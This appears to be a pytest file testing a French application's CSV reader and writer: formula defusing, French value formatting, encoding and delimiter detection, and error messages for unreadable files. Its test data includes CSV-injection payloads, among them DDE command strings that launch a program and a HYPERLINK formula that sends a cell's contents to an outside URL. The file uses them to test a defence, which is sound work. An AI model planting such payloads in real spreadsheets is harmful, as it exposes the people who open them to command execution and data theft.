"""CSV in and out: what a spreadsheet would run is defused, and what was written is read back as it was."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from logisav.desk.files import spreadsheet
from logisav.desk.files.spreadsheet import (
    MAX_BYTES,
    MAX_ROWS,
    UnreadableSheet,
    armed,
    decoded,
    defused,
    read,
    written,
)

pytestmark = pytest.mark.sqlite
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1;"Cliquez")',
    "=IMPORTXML(CONCAT(A1);'//a')",
    "@=1",
    " =1+1",
    "   +1",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tabc",
    "\rabc",
    "\u00a0=1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1",
    "+33 6 11 22 33 44",
    "--5",
    "-",
    "-5%",
    "-1 234,50 €=",
]
STARTS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_defused_and_read_back(text: str) -> None:
    cell = defused(text)
    assert cell.startswith("'")
    assert armed(cell) == text


@pytest.mark.parametrize(
    "text", ["", "Peinture", "1234,50", "-12,50", "-3", "l'an = 12 mois", "'abc", "a\n=1"]
)
def test_what_is_no_formula_is_left_alone(text: str) -> None:
    assert defused(text) == text
    assert armed(text) == text


@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n ;,\"a1＝"), max_size=8))
def test_any_text_comes_back_as_it_was_and_never_starts_like_a_formula(text: str) -> None:
    cell = defused(text)
    assert armed(cell) == text
    assert not cell.lstrip().startswith(STARTS) or spreadsheet.NUMBER.fullmatch(cell)


def test_values_are_written_the_french_way() -> None:
    moment = dt.datetime(2026, 7, 1, 22, 30, tzinfo=dt.UTC)
    values = [Decimal("-1234.50"), dt.date(2026, 3, 1), moment, True, False, None, "=1"]
    assert [written(value) for value in values] == [
        "-1234,50", "01/03/2026", "02/07/2026 00:30", "oui", "non", "", "'=1"
    ]  # fmt: skip


def test_a_file_is_read_back_with_its_quotes_lines_and_signs() -> None:
    rows = [("Nom", "Note"), ('Dupont "fils"', "12; rue\nNeuve"), ("=1", "'x")]
    text = "".join(spreadsheet.lines(rows))
    assert text.startswith("\ufeff")
    table = read(decoded(text.encode()))
    assert table.titles == ("Nom", "Note")
    assert [(row.line, row.cells) for row in table.rows] == [
        (2, ('Dupont "fils"', "12; rue\nNeuve")),
        (4, ("=1", "'x")),
    ]
    foreign = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert foreign[2] == ["'=1", "'x"]


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_the_usual_kinds_of_files_are_understood(delimiter: str, encoding: str, end: str) -> None:
    text = end.join(
        [delimiter.join(["Référence", "Désignation"]), delimiter.join(["A1", "Chauffe-eau, 5 €"])]
    )
    if delimiter == ",":
        text = text.replace("Chauffe-eau, 5 €", '"Chauffe-eau, 5 €"')
    table = read(decoded(text.encode(encoding)))
    assert table.titles == ("Référence", "Désignation")
    assert table.rows[0].cells == ("A1", "Chauffe-eau, 5 €")


def test_empty_lines_are_skipped_and_lines_keep_their_number() -> None:
    table = read("\nNom;Note\n\n;;\nA;B\n")
    assert [(row.line, row.cells) for row in table.rows] == [(5, ("A", "B"))]


@pytest.mark.parametrize(
    ("document", "words"),
    [
        (b"", "vide"),
        (b"\n\n ;\n", "vide"),
        (b"PK\x03\x04\x00\x00xlsx", "pas un CSV"),
        ("Nom;Note".encode("utf-16-le"), "pas un CSV"),
        (b"Nom\n\x81\x8d", "pas un CSV"),
        (b"a" * (MAX_BYTES + 1), "2 Mo"),
        (b'Nom;Note\nA;"B\nC;D\n', "Ligne 2 : un guillemet"),
        (b'Nom;Note\nA;B\nC;"D"E\n', "Ligne 3 : un guillemet"),
        (b"Nom;Note\nA;" + b"x" * 200_000, "Ligne 2"),
        (b"Nom\n" + b"A\n" * (MAX_ROWS + 1), "5\u202f000 lignes"),
    ],
)
def test_what_cannot_be_read_is_told(document: bytes, words: str) -> None:
    with pytest.raises(UnreadableSheet, match=words):
        read(decoded(document))


def test_as_many_rows_as_allowed_are_read() -> None:
    assert len(read("Nom\n" + "A\n" * MAX_ROWS).rows) == MAX_ROWS


@pytest.mark.parametrize("encoding", ["cp1252", "iso8859-1", "iso8859-15", "mac_roman", "cp850"])
def test_accents_of_old_programs_are_understood(encoding: str) -> None:
    text = "Nom;Prénom;Adresse\nLefèvre;Zoé;3 allée des Chênes, à côté du château\nGüell;François;Î\n"
    assert decoded(text.encode(encoding)) == text


def test_a_file_of_a_thousand_columns_is_told_before_anything_is_made_of_it() -> None:
    with pytest.raises(UnreadableSheet, match="100 colonnes"):
        spreadsheet.read(";".join(["Nom"] * 1000) + "\n" + "Morel\n", known=())
